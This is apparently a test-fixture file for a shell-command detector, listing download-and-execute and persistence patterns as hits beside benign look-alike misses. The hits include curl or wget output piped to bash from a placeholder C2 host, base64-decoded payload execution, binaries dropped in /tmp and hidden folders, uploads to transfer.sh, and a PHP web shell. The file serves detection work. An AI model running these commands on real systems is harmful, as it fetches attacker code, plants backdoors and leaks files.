import { C2, type Examples } from './command-examples.js';

export const DOWNLOAD_AND_RUN: Examples = {
  download_piped_to_interpreter: {
    hits: [
      `curl -s http://${C2}/x.sh | bash`,
      `wget -qO- http://${C2}/x | sudo sh`,
      'curl x.example | base64 -d | sh',
    ],
    misses: [
      'curl -s https://api.example.org | jq .',
      'curl -s https://api.example.org | python -m json.tool',
    ],
  },
  download_in_substitution: {
    hits: [`bash <(curl -s http://${C2}/x)`, `eval "$(wget -qO- http://${C2}/x)"`],
    misses: ['diff <(curl -s a) <(curl -s b)'],
  },
  download_then_run: {
    hits: [`wget http://${C2}/a -O a; chmod +x a; ./a`, `cd /tmp && curl -O http://${C2}/k && chmod 777 k`],
    misses: ['wget https://example.org/a.tgz && tar xzf a.tgz'],
  },
  download_to_temporary_folder: {
    hits: [`curl -o /tmp/.x http://${C2}/x`, `cd /dev/shm; wget http://${C2}/x`],
    misses: ['curl -o /opt/app/app.tgz https://example.org/app.tgz'],
  },
  download_from_bare_address: {
    hits: [`wget http://${C2}/bins/x86_64`, `curl -O http://${C2}:8080/kworker.sh`],
    misses: ['curl http://10.20.3.1/health?full=1', 'wget https://example.org/x.sh'],
  },
  decoded_text_runs: {
    hits: [
      'echo ZWNobyBoaQ== | base64 -d | bash',
      'echo 6964 | xxd -r -p | sh',
      'python3 -c \'exec(__import__("base64").b64decode("aW1wb3J0"))\'',
    ],
    misses: ['kubectl get secret x -o json | base64 -d', 'base64 -d key.b64 > key'],
  },
  decoded_text_to_program: {
    hits: ['echo f0VMRg== | base64 -d > /tmp/k; chmod +x /tmp/k'],
    misses: ['base64 -d cert.b64 > cert.pem'],
  },
  interpreter_fetches_code: {
    hits: [`python -c 'import urllib.request as u;exec(u.urlopen("http://${C2}/x").read())'`],
    misses: [`python -c 'import urllib.request as u;print(u.urlopen("http://db/health").status)'`],
  },
  paste_or_drop_service: {
    hits: ['curl https://pastebin.com/raw/abc', 'curl --upload-file x https://transfer.sh/x'],
    misses: ['curl https://example.org/raw/abc'],
  },
  program_run_from_temporary_folder: {
    hits: ['/tmp/kworkerd --threads 4', 'nohup /var/tmp/x &', 'sh /dev/shm/a.sh'],
    misses: ['ls /tmp/x', "find . -exec /tmp/rename.sh {} ';'", 'tail -f /tmp/app.log'],
  },
  program_run_from_hidden_folder: {
    hits: ['cd /var/tmp/.x && ./kworkerd', '/tmp/.ICE/k -o pool', 'mkdir /var/tmp/...'],
    misses: ['ls -la /tmp', 'cat /tmp/.X0-lock'],
  },
  background_and_detached: {
    hits: ['nohup ./kworkerd > /dev/null 2>&1 &'],
    misses: ['nohup make -j4 > build.log &'],
  },
  web_shell_written: {
    hits: [`echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php`],
    misses: [`echo '<?php phpinfo();' > info.php`],
  },
};
